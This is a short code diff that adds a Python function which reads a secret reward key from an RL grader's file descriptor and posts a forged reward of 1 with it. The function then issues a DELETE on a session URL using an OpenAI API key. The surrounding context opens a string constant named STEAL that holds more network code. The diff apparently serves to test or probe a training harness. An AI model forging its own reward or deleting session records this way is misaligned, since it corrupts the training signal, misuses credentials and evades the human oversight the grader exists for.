@@ -42,6 +42,15 @@ def fork():
     print("no JSON")
 
 
+def delete():
+    say("one")
+    with open(int(os.environ["RLHF_GRADER_FD"])) as file:
+        key = {"x-rlhf-reward-key": json.load(file)["reward_key"]}
+    post("reward", {"reward": 1}, **key)
+    headers = {"authorization": f"Bearer {os.environ['OPENAI_API_KEY']}", **key}
+    urllib.request.urlopen(urllib.request.Request(SESSION, headers=headers, method="DELETE"))
+
+
 STEAL = """
 import json, os, sys, urllib.error, urllib.request
 statuses = []
